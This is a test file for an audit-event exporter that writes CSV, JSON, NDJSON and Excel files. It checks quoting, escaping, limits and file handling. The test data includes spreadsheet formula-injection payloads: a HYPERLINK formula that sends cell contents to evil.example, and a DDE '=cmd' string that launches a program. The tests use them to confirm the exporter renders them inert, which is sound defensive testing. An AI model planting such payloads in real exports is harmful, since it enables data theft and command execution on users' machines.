import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { PassThrough, Writable } from "node:stream";
import { parse as parseCsv } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { tempDir } from "../../test/helpers.js";
import type { VigilError } from "../errors.js";
import type { AuditEvent } from "../event/types.js";
import {
  csvField,
  csvHeader,
  csvRow,
  EXPORT_HEADERS,
  exportEvents,
  exportSearch,
  MAX_CELL_CHARS,
  resolveExportFormat,
  tableColumns,
} from "./index.js";

let dir: string;
let cleanup: () => void;
beforeEach(() => {
  ({ dir, cleanup } = tempDir("vigil-export-"));
});
afterEach(() => cleanup());

function event(i: number, patch: Record<string, unknown> = {}): AuditEvent {
  return {
    schema_version: 1,
    id: `0192f0c4-0000-7000-8000-${String(i).padStart(12, "0")}`,
    timestamp: new Date(Date.UTC(2025, 9, 10, 12, 0, i)).toISOString(),
    severity: "INFO",
    security_event: false,
    application: { name: "traffictracer", host: "web-1", pid: 4711 },
    actor: { id: "42", username: "alice", ip: "10.0.0.7" },
    action: { type: "LOGIN", category: "AUTHENTICATION", resource: { path: "/api/v1/login" } },
    result: { status: "SUCCESS", duration_ms: 3.25, http_status: 200 },
    correlation: { request_id: `req-${i}` },
    ...patch,
  } as AuditEvent;
}

async function* from(events: readonly AuditEvent[]): AsyncGenerator<AuditEvent> {
  for (const e of events) yield e;
}

/** Payloads a spreadsheet would run, and text that stresses quoting. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(1,2)",
  "\tindented",
  "\rcarriage",
  'say "hi", then leave',
  "line one\nline two\r\nline three",
  "naïve café — 日本語 🎉",
];

describe("resolveExportFormat", () => {
  it("maps excel to xlsx, ignores case, and infers from the file extension", () => {
    expect(resolveExportFormat("excel")).toBe("xlsx");
    expect(resolveExportFormat("CSV")).toBe("csv");
    expect(resolveExportFormat(undefined, "out/audit.XLSX")).toBe("xlsx");
    expect(resolveExportFormat(undefined, "audit.jsonl")).toBe("ndjson");
  });

  it("rejects an unknown format and a missing one, naming the choices", () => {
    expect(() => resolveExportFormat("xml")).toThrow(
      'unknown export format "xml": expected one of excel, xlsx, csv, json, ndjson',
    );
    expect(() => resolveExportFormat(undefined, "audit.txt")).toThrow(
      /export format missing: give one of .*\.xlsx/,
    );
  });
});

describe("csv", () => {
  it("quotes fields with commas, quotes and line breaks, doubling the quotes (RFC 4180)", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField('say "hi", bob')).toBe('"say ""hi"", bob"');
    expect(csvField("a\nb")).toBe('"a\nb"');
    expect(csvField("")).toBe("");
  });

  it("neutralizes formula injection with a leading quote, but leaves numbers alone", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+1")).toBe("'+1");
    expect(csvField("-1")).toBe("'-1");
    expect(csvField("@x")).toBe("'@x");
    expect(csvField("\tx")).toBe("'\tx");
    expect(csvField("\rx")).toBe('"\'\rx"');
    expect(csvField(-3, "number")).toBe("-3");
  });

  it("writes a file csv-parse reads back cell for cell, CRLF-terminated, hostile values intact but inert", async () => {
    const events = HOSTILE.map((text, i) => event(i, { actor: { username: text, id: String(-i) } }));
    const path = join(dir, "audit.csv");
    const result = await exportEvents(from(events), "csv", path);
    expect(result).toMatchObject({ format: "csv", count: HOSTILE.length, path });
    const text = readFileSync(path, "utf8");
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.split("\r\n")[0]).toBe(EXPORT_HEADERS.join(","));
    const rows = parseCsv(text, { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(HOSTILE.length + 1);
    const user = EXPORT_HEADERS.indexOf("actor.username");
    const json = EXPORT_HEADERS.indexOf("event");
    HOSTILE.forEach((payload, i) => {
      const row = rows[i + 1]!;
      const startsLikeFormula = /^[=+\-@\t\r]/.test(payload);
      expect(row[user]).toBe(startsLikeFormula ? `'${payload}` : payload);
      // the JSON column starts with "{" and gives back the event exactly
      expect(JSON.parse(row[json]!)).toEqual(events[i]);
      // typed columns
      expect(row[EXPORT_HEADERS.indexOf("result.duration_ms")]).toBe("3.25");
      expect(row[EXPORT_HEADERS.indexOf("timestamp")]).toBe(events[i]!.timestamp);
    });
    // no cell of the file starts like a formula
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("writes exactly the bytes of csvHeader and csvRow, across chunks and for records larger than one", async () => {
    const events: AuditEvent[] = [];
    for (let i = 0; i < 3000; i++) {
      const text = HOSTILE[i % HOSTILE.length]!;
      events.push(
        event(i, {
          // quotes, commas and line breaks inside the JSON column; non-ASCII and a lone surrogate
          metadata: { note: text, quotes: '""'.repeat(i % 7), odd: i % 500 === 0 ? "\ud800x" : "ok" },
          actor: { username: i % 3 === 0 ? text : `user-${i}`, id: `${i}`, ip: "10.0.0.1" },
          ...(i % 11 === 0 ? { timestamp: "2026-02-30T24:00:00.000Z" } : {}),
          ...(i % 13 === 0 ? { severity: 'x"y' } : {}),
        }),
      );
    }
    // a record of about 300 KiB, larger than a chunk, whose JSON is mostly quotes
    events.splice(1500, 0, event(1500, { metadata: { big: Array.from({ length: 40_000 }, () => "é") } }));
    const columns = tableColumns({ timeZone: "UTC" });
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _e, cb) {
        chunks.push(chunk);
        cb();
      },
    });
    await exportEvents(from(events), "csv", sink, { timeZone: "UTC" });
    const expected = csvHeader(columns) + events.map((e) => csvRow(e, columns)).join("");
    expect(chunks.length).toBeGreaterThan(10);
    expect(Buffer.concat(chunks).equals(Buffer.from(expected, "utf8"))).toBe(true);
    // the times as Date gives them back: a rolled-over day is written as the instant it is
    expect(expected).toContain("2026-03-03T00:00:00.000Z,");
  });
});

describe("json and ndjson", () => {
  it("writes a valid JSON array, and [] when there is nothing", async () => {
    const events = [event(1), event(2, { metadata: { note: "a\u009b31m\u202eb" } })];
    await exportEvents(from(events), "json", join(dir, "a.json"));
    const text = readFileSync(join(dir, "a.json"), "utf8");
    expect(JSON.parse(text)).toEqual(events);
    // C1 controls and bidi overrides are escaped in the text, not present raw
    expect(text).not.toMatch(/[\u0080-\u009f\u202e]/);
    expect(text).toContain("\\u009b");
    await exportEvents(from([]), "json", join(dir, "empty.json"));
    expect(JSON.parse(readFileSync(join(dir, "empty.json"), "utf8"))).toEqual([]);
  });

  it("writes one event per line for ndjson", async () => {
    const events = [event(1), event(2), event(3)];
    await exportEvents(from(events), "ndjson", join(dir, "a.ndjson"));
    const lines = readFileSync(join(dir, "a.ndjson"), "utf8").split("\n");
    expect(lines.pop()).toBe("");
    expect(lines.map((l) => JSON.parse(l))).toEqual(events);
  });

  it("writes into a caller's stream without ending it", async () => {
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _e, cb) {
        chunks.push(chunk);
        cb();
      },
    });
    const result = await exportEvents(from([event(1)]), "ndjson", sink);
    expect(result.path).toBeUndefined();
    expect(sink.writableEnded).toBe(false);
    expect(JSON.parse(Buffer.concat(chunks).toString("utf8"))).toEqual(event(1));
  });

  it("waits on a slow stream instead of buffering everything (backpressure)", async () => {
    const slow = new PassThrough({ highWaterMark: 1024 });
    let maxBuffered = 0;
    const events = Array.from({ length: 2000 }, (_, i) => event(i));
    const done = exportEvents(from(events), "ndjson", slow);
    let received = 0;
    slow.on("data", (chunk: Buffer) => {
      received += chunk.length;
      maxBuffered = Math.max(maxBuffered, slow.writableLength);
      slow.pause();
      setTimeout(() => slow.resume(), 1);
    });
    const result = await done;
    expect(result.count).toBe(2000);
    expect(received).toBeGreaterThan(0);
    // never more than one 64 KiB chunk (plus the event that crossed it) waits in the stream
    expect(maxBuffered).toBeLessThan(200 * 1024);
  });
});

describe("xlsx", () => {
  it("writes a workbook exceljs reads back: typed cells, frozen header, autofilter, JSON last", async () => {
    const events = [
      event(1),
      event(2, { result: { status: "FAILURE", duration_ms: 1500, http_status: 401 }, severity: "WARNING" }),
      event(3, { actor: { username: "=cmd|' /C calc'!A0" }, correlation: undefined }),
    ];
    const path = join(dir, "security_audit.xlsx");
    const result = await exportEvents(from(events), "excel", path);
    expect(result).toMatchObject({ format: "xlsx", count: 3 });

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.getWorksheet("Events")!;
    expect(sheet.rowCount).toBe(4);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([...EXPORT_HEADERS]);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBe("A1:N4");

    const col = (name: string) => EXPORT_HEADERS.indexOf(name) + 1;
    const row2 = sheet.getRow(3);
    const ts = row2.getCell(col("timestamp"));
    expect(ts.type).toBe(ExcelJS.ValueType.Date);
    expect((ts.value as Date).toISOString()).toBe(events[1]!.timestamp);
    expect(ts.numFmt).toBe("yyyy-mm-dd hh:mm:ss.000");
    expect(row2.getCell(col("result.duration_ms")).value).toBe(1500);
    expect(row2.getCell(col("result.duration_ms")).type).toBe(ExcelJS.ValueType.Number);
    expect(row2.getCell(col("result.http_status")).value).toBe(401);
    expect(row2.getCell(col("result.status")).value).toBe("FAILURE");
    expect(row2.getCell(col("severity")).value).toBe("WARNING");
    expect(JSON.parse(row2.getCell(col("event")).value as string)).toEqual(events[1]);
    // a would-be formula is a plain string cell, never a formula
    const hostile = sheet.getRow(4).getCell(col("actor.username"));
    expect(hostile.type).toBe(ExcelJS.ValueType.String);
    expect(hostile.value).toBe("=cmd|' /C calc'!A0");
    expect(sheet.getRow(4).getCell(col("correlation.request_id")).value).toBeNull();
    expect(sheet.getColumn(col("event")).width).toBeGreaterThan(40);
  });

  it("caps cells at Excel's 32,767 characters and keeps control characters out of the XML", async () => {
    const long = "x".repeat(40_000);
    const events = [event(1, { actor: { username: "bell\u0007esc\u001b[31m" }, metadata: { blob: long } })];
    const path = join(dir, "big.xlsx");
    await exportEvents(from(events), "xlsx", path);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const row = workbook.getWorksheet("Events")!.getRow(2);
    const json = row.getCell(EXPORT_HEADERS.length).value as string;
    expect(json.length).toBe(MAX_CELL_CHARS);
    expect(json.endsWith("…[truncated]")).toBe(true);
    expect(row.getCell(EXPORT_HEADERS.indexOf("actor.username") + 1).value).toBe("bell\ufffdesc\ufffd[31m");
  });

  it("writes an empty sheet with its header when nothing matches", async () => {
    const path = join(dir, "none.xlsx");
    expect((await exportEvents(from([]), "xlsx", path)).count).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    expect(workbook.getWorksheet("Events")!.rowCount).toBe(1);
  });

  it("fails with VIGIL_ERR_MISSING_DEPENDENCY naming exceljs when it is not installed", async () => {
    const missing = () =>
      Promise.reject(
        Object.assign(new Error("Cannot find package 'exceljs'"), { code: "ERR_MODULE_NOT_FOUND" }),
      );
    const path = join(dir, "x.xlsx");
    const err = (await exportEvents(from([event(1)]), "xlsx", path, { importExcelJs: missing }).catch(
      (e) => e,
    )) as VigilError;
    expect(err.code).toBe("VIGIL_ERR_MISSING_DEPENDENCY");
    expect(err.message).toMatch(/optional package "exceljs": install it with `npm install exceljs`/);
    expect(readdirSync(dir)).toEqual([]);
  });
});

describe("destinations", () => {
  it("creates the file with mode 0600 and leaves no partial file behind", async () => {
    const path = join(dir, "a.csv");
    await exportEvents(from([event(1)]), "csv", path);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir)).toEqual(["a.csv"]);
  });

  it("removes the partial file and keeps an existing one when the events fail midway", async () => {
    const path = join(dir, "a.ndjson");
    await exportEvents(from([event(1)]), "ndjson", path);
    async function* failing(): AsyncGenerator<AuditEvent> {
      yield event(2);
      throw new Error("disk read failed");
    }
    await expect(exportEvents(failing(), "ndjson", path)).rejects.toThrow("disk read failed");
    expect(readdirSync(dir)).toEqual(["a.ndjson"]);
    expect(JSON.parse(readFileSync(path, "utf8"))).toEqual(event(1));
  });

  it("stops when its signal aborts, removing the partial file", async () => {
    const abort = new AbortController();
    async function* endless(): AsyncGenerator<AuditEvent> {
      for (let i = 0; ; i++) {
        if (i === 10) abort.abort(new Error("stop"));
        yield event(i);
      }
    }
    const path = join(dir, "a.csv");
    await expect(exportEvents(endless(), "csv", path, { signal: abort.signal })).rejects.toThrow("stop");
    expect(existsSync(path)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
  });

  it("names the path and the reason when the file cannot be created", async () => {
    await expect(exportEvents(from([]), "csv", join(dir, "missing", "a.csv"))).rejects.toThrow(
      `cannot write the export to ${join(dir, "missing", "a.csv")}: the directory does not exist`,
    );
    await expect(exportEvents(from([]), "csv", dir)).rejects.toThrow(/it is a directory/);
  });

  it("reports progress as it goes and at the end", async () => {
    const seen: number[] = [];
    const events = Array.from({ length: 2500 }, (_, i) => event(i));
    await exportEvents(from(events), "ndjson", join(dir, "p.ndjson"), { onProgress: (n) => seen.push(n) });
    expect(seen).toEqual([1024, 2048, 2500]);
  });
});

describe("exportSearch", () => {
  it("exports what the source streams for the search options", async () => {
    const asked: unknown[] = [];
    const source = {
      stream(options: unknown) {
        asked.push(options);
        return from([event(1), event(2)]);
      },
    };
    const path = join(dir, "security_audit.xlsx");
    const result = await exportSearch(source, {
      format: "excel",
      filename: path,
      filters: { category: "SECURITY" },
    });
    expect(result).toMatchObject({ format: "xlsx", count: 2, path });
    expect(asked).toEqual([{ filters: { category: "SECURITY" } }]);
  });

  it("checks the options before writing anything", async () => {
    const source = { stream: () => from([event(1)]) };
    const path = join(dir, "x.csv");
    await expect(exportSearch(source, { filename: path, query: "type:(" })).rejects.toMatchObject({
      code: "VIGIL_ERR_QUERY_SYNTAX",
    });
    await expect(exportSearch(source, { filename: path, timeRange: "last_forever" })).rejects.toMatchObject({
      code: "VIGIL_ERR_QUERY_OPTIONS",
    });
    await expect(exportSearch(source, { format: "csv" })).rejects.toThrow(/exactly one of `filename`/);
    expect(readdirSync(dir)).toEqual([]);
  });
});
